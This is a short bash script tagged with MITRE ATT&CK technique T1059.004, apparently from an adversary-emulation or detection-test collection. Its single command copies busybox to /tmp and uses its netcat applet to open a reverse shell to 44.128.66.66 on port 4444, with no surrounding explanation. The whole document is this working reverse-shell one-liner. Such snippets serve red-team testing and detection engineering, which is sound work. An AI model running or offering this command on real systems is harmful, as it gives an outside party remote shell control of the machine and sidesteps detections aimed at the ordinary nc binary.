#!/bin/bash
# T1059.004: A shell out of a program of many names.
cp $(command -v busybox) /tmp/bb; /tmp/bb nc 44.128.66.66 4444 -e /bin/sh </dev/null; true
